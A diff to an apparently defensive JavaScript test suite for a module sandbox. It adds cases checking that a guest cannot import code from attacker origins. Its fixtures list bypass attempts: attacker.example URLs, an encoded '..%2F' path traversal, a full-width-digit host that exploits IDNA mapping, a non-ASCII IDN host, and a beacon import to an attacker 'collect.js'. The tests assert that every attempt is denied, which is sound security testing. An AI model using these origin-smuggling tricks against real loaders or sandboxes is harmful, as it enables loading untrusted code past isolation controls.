@@ -32,7 +32,9 @@ before(async () => {
   files.set('/realm/alice/beacon.js', "import '/realm/attacker/collect.js?beacon=1';");
   files.set('/realm/alice/tricks.js', [
     "export const results = [];",
-    "for (const s of ['https://attacker.example/x.js', '//attacker.example/x.js', '/realm/alice-evil/x.js', '/realm/alice/..%2Fattacker/x.js', '/realm/attacker/x.js', 'data:text/javascript,1', 'lodash']) {",
+    // The last: this module's own origin with a full-width host, which full IDNA maps onto it.
+    "const wide = import.meta.url.replace('127.0.0.1', '\\uff11\\uff12\\uff17.0.0.1').replace('tricks.js', 'lib/math.js');",
+    "for (const s of ['https://attacker.example/x.js', '//attacker.example/x.js', '/realm/alice-evil/x.js', '/realm/alice/..%2Fattacker/x.js', '/realm/attacker/x.js', 'data:text/javascript,1', 'lodash', wide]) {",
     "  try { await import(s); results.push(s + ': loaded'); } catch (e) { results.push(e.name); }",
     "}",
     "globalThis.tricks = results;",
@@ -99,12 +101,16 @@ test('confused-deputy tricks are denied before any request; the guest can catch 
     let direct;
     try { await c.import(`${origin}/realm/attacker/x.js`); direct = 'loaded'; } catch (e) { direct = e.code; }
     const script = await c.eval(`import('${origin}/realm/attacker/y.js').then(() => 'loaded', (e) => e.name)`);
+    let idn;
+    try { await c.import('https://bücher.example/x.js'); idn = 'loaded'; } catch (e) { idn = { code: e.code, message: e.message }; }
     pool.close();
-    return { beacon, tricks, direct, script };
+    return { beacon, tricks, direct, script, idn };
   }, { origin: h.origin });
   assert.equal(r.beacon.code, 'SANDBOX_POLICY_DENIED');
   assert.equal(r.beacon.path, '/realm/attacker/collect.js?beacon=1');
-  assert.deepEqual(r.tricks, Array(7).fill('TypeError'));
+  assert.deepEqual(r.tricks, Array(8).fill('TypeError'));
+  assert.equal(r.idn.code, 'SANDBOX_POLICY_DENIED');
+  assert.match(r.idn.message, /not ASCII .*punycode/);
   assert.equal(r.direct, 'SANDBOX_POLICY_DENIED');
   assert.equal(r.script, 'TypeError');
   const attacker = log.filter((l) => !l.path.startsWith('/realm/alice/'));
